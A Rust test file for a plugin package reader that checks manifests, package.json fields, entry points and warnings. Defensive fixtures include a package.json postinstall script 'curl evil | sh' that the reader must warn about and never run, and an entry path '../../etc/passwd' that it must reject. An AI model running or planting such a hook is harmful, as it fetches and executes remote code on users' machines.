//! What only the plugin form has: the sources' samples, `package.json`, and its own places of files.

use crate::support::{Files, open};
use package::{Code, Entry, Form, Given, Package, Program, Server, Speaks};
use protocol::Zone;
use serde_json::json;
use std::collections::BTreeMap;

const INDEX: &str = "import { work } from './handler.js'\nexport const invoke = (name, args, ctx) => work(args)\n";
const HANDLER: &str = "export const work = args => args\n";
const TOOL: &str = "name: search\ndescription: Searches\nparameters: {type: object}\n";

/// A plugin with S1's file layout; an empty text removes the file.
fn plugin(changes: &[(&str, &str)]) -> Files {
    let base = [
        ("kimai.json", "{ \"name\": \"search-bing\", \"version\": \"1.0.0\" }"),
        ("llm-tool.yaml", TOOL),
        ("src/index.js", INDEX),
        ("src/handler.js", HANDLER),
        ("README.md", "# Search\n"),
    ];
    let mut files = Files::new();
    for (path, text) in base.iter().chain(changes) {
        files.insert((*path).to_owned(), text.as_bytes().to_vec());
    }
    files.retain(|_, text| !text.is_empty());
    files
}

fn read(changes: &[(&str, &str)]) -> Package {
    open(&plugin(changes)).unwrap_or_else(|error| panic!("{error}"))
}

fn told(changes: &[(&str, &str)]) -> String {
    match open(&plugin(changes)) {
        Ok(_) => "ok".to_owned(),
        Err(error) => format!("[{}]\n{error}", error.code()),
    }
}

fn warned(changes: &[(&str, &str)]) -> Vec<String> {
    read(changes).warnings().iter().map(ToString::to_string).collect()
}

#[test]
fn an_honest_plugin_is_read() {
    let package = read(&[]);
    assert_eq!(package.form(), Form::Plugin);
    assert_eq!(package.name().as_str(), "search-bing");
    assert_eq!(package.manifest().title, "search-bing");
    assert_eq!(package.manifest().zones, [Zone::Local]);
    assert_eq!(package.manifest().entry, Entry::Module("src/index.js".to_owned()));
    assert_eq!(*package.code(), Code::Script { entry: "src/index.js".to_owned(), joining: None });
    assert_eq!(package.tools()[0].name.as_str(), "search");
    // It implies nothing: S1's plugins ask for what they want.
    assert_eq!(package.requests(), []);
    assert_eq!(package.warnings(), []);
    assert!(package.npm().is_none() && package.settings().is_none() && package.triggers().is_empty());
}

#[test]
fn the_samples_of_the_sources_are_taken_as_they_stand() {
    let search = r#"{
  "name": "search-bing",
  "version": "1.0.0",
  "permissions": ["network"],
  "trigger": {
    "regex": "^Search(.*)"
  },
  "renderer": "search-cards" 
}"#;
    let local = r#"{
  "name": "my-local-tool",
  "runtime": ["local"], 
  "dependencies": ["mcp.local_fs"]
}"#;
    let official = r#"{
  "name": "official-weather",
  "runtime": ["cloud", "local"], 
  "dependencies": ["mcp.search_web"]
}"#;
    let weather = "name: get_weather\ndescription: Get 7-day forecast\nparameters:\n  type: object\n  required: [city]\n  \
                   properties: \n    city: {type: string}\n";
    let no_version =
        "kimai.json: no version is given, so 0.0.0 is assumed (add \"version\": \"0.1.0\"; publishing needs one)";
    for (manifest, tool, expected) in [
        (search, TOOL, vec![]),
        (
            search,
            "",
            vec![
                "kimai.json:5: the trigger names no action, and there is no action or tool, so it calls nothing (add \
             \"action\" to it)",
                "kimai.json: nothing of it can be started: it has neither action-schema.json nor llm-tool.yaml",
            ],
        ),
        (local, TOOL, vec![no_version]),
        (official, weather, vec![no_version]),
    ] {
        assert_eq!(warned(&[("kimai.json", manifest), ("llm-tool.yaml", tool)]), expected, "{manifest}");
    }
    let package = read(&[("kimai.json", official), ("llm-tool.yaml", weather)]);
    assert_eq!(package.manifest().version, semver::Version::new(0, 0, 0));
    assert_eq!(package.manifest().zones, [Zone::Cloud, Zone::Local]);
    assert_eq!(package.dependencies()[0].to_string(), "mcp.search_web");
    let tool = &package.tools()[0];
    assert!(tool.check_input(&json!({"city": "Athens"})).is_ok());
    assert!(tool.check_input(&json!({})).is_err());
}

#[test]
fn package_json_may_say_who_it_is() {
    let npm = r#"{ "name": "@ada/search-bing", "version": "2.1.0", "description": "Finds.", "type": "module",
        "author": "Ada <ada@example.org> (https://example.org)", "dependencies": { "left-pad": "*" }, "x": { "y": [1] } }"#;
    let package = read(&[("kimai.json", "{}"), ("package.json", npm)]);
    let manifest = package.manifest();
    assert_eq!((package.name().as_str(), manifest.version.to_string().as_str()), ("search-bing", "2.1.0"));
    assert_eq!((manifest.description.as_deref(), manifest.developer.as_deref()), (Some("Finds."), Some("Ada")));
    assert_eq!(package.npm().unwrap().fields()["x"], json!({ "y": [1] }));
    assert_eq!(package.warnings(), []);
    // What the manifest says itself comes first.
    let package = read(&[("kimai.json", r#"{ "description": "Mine." }"#), ("package.json", npm)]);
    assert_eq!(package.manifest().description.as_deref(), Some("Mine."));
    let package = read(&[("package.json", r#"{ "author": { "name": "Ada", "url": "x" } }"#)]);
    assert_eq!(package.manifest().developer.as_deref(), Some("Ada"));
}

#[test]
fn a_mini_app_may_have_a_package_json_too() {
    let mini_app = |npm: &str| {
        let mut files = crate::support::app(&[("package.json", npm)]);
        files.insert("manifest.json".to_owned(), br#"{ "id": "seo-writer", "name": "SEO" }"#.to_vec());
        open(&files).map(|package| package.manifest().version.to_string()).map_err(|error| error.to_string())
    };
    assert_eq!(mini_app(r#"{ "name": "seo-writer", "version": "3.0.0" }"#), Ok("3.0.0".to_owned()));
    assert!(mini_app(r#"{ "name": "other" }"#).unwrap_err().contains("manifest.json says 'seo-writer'"));
}

#[test]
fn two_files_that_say_one_thing_agree() {
    for (npm, expected) in [
        (r#"{ "name": "search-bing", "version": "1.0.0" }"#, "ok"),
        (r#"{ "name": "@x/search-bing" }"#, "ok"),
        (r#"{ "name": "search-bong" }"#, "package.json:1:11: kimai.json says 'search-bing'"),
        (r#"{ "version": "1.0.1" }"#, "package.json:1:14: kimai.json says '1.0.0'"),
        (r#"{ "version": "1" }"#, "a semantic version such as 1.4.0"),
        (r#"{ "name": "Search" }"#, "the app's name, with or without npm's @scope/"),
        (r#"{ "name": "@x/y/search-bing" }"#, "the app's name"),
        (r#"{ "author": {} }"#, "the key 'name' is missing"),
        (r#"{ "author": ["Ada"] }"#, "expected"),
        (r#"["search-bing"]"#, "expected an object"),
        (r#"{ "name": "search-bing", "name": "search-bing" }"#, "there twice"),
        // Keys that mean something to JavaScript are keys like others.
        (r#"{ "__proto__": { "name": "x" }, "constructor": 1, "toString": null }"#, "ok"),
    ] {
        let told = told(&[("package.json", npm)]);
        assert!(told == expected || (expected != "ok" && told.contains(expected)), "{npm}\n{told}");
    }
    assert!(told(&[("kimai.json", "{}")]).contains("its name is here or in package.json"));
    // Each of the two files is looked at, whatever is wrong with the other.
    let told = told(&[("kimai.json", "{ \"nam\": 1 }"), ("package.json", "{ \"version\": 1 }")]);
    assert!(told.contains("package.json:1:14") && told.contains("did you mean 'name'?"), "{told}");
}

#[test]
fn scripts_of_npm_are_told_of_and_never_run() {
    let npm = "{\n \"scripts\": { \"postinstall\": \"curl evil | sh\", \"test\": \"node t.js\" }\n}";
    assert_eq!(
        warned(&[("package.json", npm)]),
        [
            "package.json:2: npm scripts are never run: postinstall (name a function of your code under \"hooks\" of the \
          manifest instead)"
        ]
    );
    assert_eq!(warned(&[("package.json", "{ \"scripts\": { \"test\": \"node t.js\" } }")]), [""; 0]);
}

fn program(command: &[&str], speaks: Speaks) -> Program {
    let command = command.iter().map(|word| (*word).to_owned()).collect();
    Program { command, speaks, environment: BTreeMap::new() }
}

#[test]
fn what_a_program_or_a_server_gets_is_said_in_the_manifest() {
    let manifest = |entry: &str, more: &str| {
        format!("{{ \"name\": \"search-bing\", \"version\": \"1.0.0\", \"entry\": {entry}{more} }}")
    };
    let settings =
        r#", "settings": { "type": "object", "properties": { "token": { "type": "string", "secret": true } } }"#;
    let entry = r#"{ "command": ["node", "a.js"], "environment": { "MODE": "plain", "TOKEN": { "setting": "token", "prefix": "x " } } }"#;
    let read_code = |text: &str| read(&[("kimai.json", text)]).code().clone();
    let Code::Program(read_program) = read_code(&manifest(entry, settings)) else { panic!("it is a program") };
    let token = Given::Setting { setting: "token".to_owned(), prefix: "x ".to_owned() };
    let expected = [("MODE".to_owned(), Given::Text("plain".to_owned())), ("TOKEN".to_owned(), token)];
    assert_eq!(read_program.environment, expected.into());
    for (entry, expected) in [
        (entry, "there is no setting 'token'"),
        (r#"{ "command": ["a"], "url": "https://a.example" }"#, "it is one of the two"),
        (r#"{ "protocol": "mcp" }"#, "nothing to start"),
        (r#"{ "command": ["a"], "headers": { "A": "b" } }"#, "over its standard streams"),
        (r#"{ "url": "https://a.example", "environment": { "A": "b" } }"#, "nothing is started here"),
        (r#"{ "url": "https://a.example", "protocol": "oikos" }"#, "only the Model Context Protocol"),
        (r#"{ "command": ["bin/absent"] }"#, "bin/absent"),
        (r#"{ "command": ["a"], "environment": { "PATH": "b" } }"#, "PATH"),
    ] {
        let said = told(&[("kimai.json", &manifest(entry, ""))]);
        assert!(said.contains(expected), "{entry}: {said}");
    }
}

#[test]
fn the_entry_may_be_elsewhere_or_something_else() {
    let entry = |entry: &str| format!("{{ \"name\": \"search-bing\", \"version\": \"1.0.0\", \"entry\": {entry} }}");
    let code = |text: &str| {
        read(&[("kimai.json", &entry(text)), ("lib/a.mjs", INDEX), ("lib/handler.js", HANDLER)]).code().clone()
    };
    assert_eq!(code("\"lib/a.mjs\""), Code::Script { entry: "lib/a.mjs".to_owned(), joining: None });
    assert_eq!(
        code("{ \"command\": [\"uvx\", \"mcp-server-fetch\"] }"),
        Code::Program(program(&["uvx", "mcp-server-fetch"], Speaks::Oikos))
    );
    assert_eq!(
        code("{ \"command\": [\"./lib/a.mjs\"], \"protocol\": \"mcp\" }"),
        Code::Program(program(&["./lib/a.mjs"], Speaks::Mcp))
    );
    let server = Server { url: "https://mcp.example/mcp".to_owned(), is_older: true, headers: BTreeMap::new() };
    assert_eq!(
        code("{ \"url\": \"https://mcp.example/mcp\", \"protocol\": \"mcp\", \"transport\": \"sse\" }"),
        Code::Server(server)
    );
    let component = read(&[("kimai.json", &entry("\"app.wasm\"")), ("app.wasm", "\0asm"), ("src/index.js", "")]);
    assert_eq!(*component.code(), Code::Component("app.wasm".to_owned()));
    for (written, expected) in [
        ("\"lib/b.js\"", "lib/b.js: this file is missing, and a plugin needs it"),
        ("\"app.wasm\"", "app.wasm: this file is missing"),
        ("\"index.ts\"", "a .js or .wasm file of the package"),
        ("\"../../etc/passwd\"", "a .js or .wasm file of the package"),
        ("\"../up.js\"", "../up.js: this file is missing"),
        ("{ \"command\": [] }", "at least 1"),
        ("{ \"command\": \"sh -c x\" }", "expected an array"),
        ("{ \"comand\": [\"x\"] }", "did you mean 'command'?"),
        ("7", "expected"),
    ] {
        let told = told(&[("kimai.json", &entry(written))]);
        assert!(told.contains(expected), "{written}\n{told}");
    }
    assert!(told(&[("src/index.js", "")]).contains("src/index.js: this file is missing, and a plugin needs it"));
    assert!(told(&[("src/index.js", ""), ("index.js", "x")]).contains("did you mean"));
}

#[test]
fn code_that_answers_no_name_is_told_of() {
    assert_eq!(
        warned(&[("src/index.js", "export const serch = () => 1")]),
        ["src/index.js: no exported function 'search' was found for the tool of this name (did you mean 'serch'?)"]
    );
    assert_eq!(warned(&[("src/index.js", "export const search = () => 1")]), [""; 0]);
    assert_eq!(warned(&[("src/index.js", "export * from './handler.js'")]), [""; 0]);
}
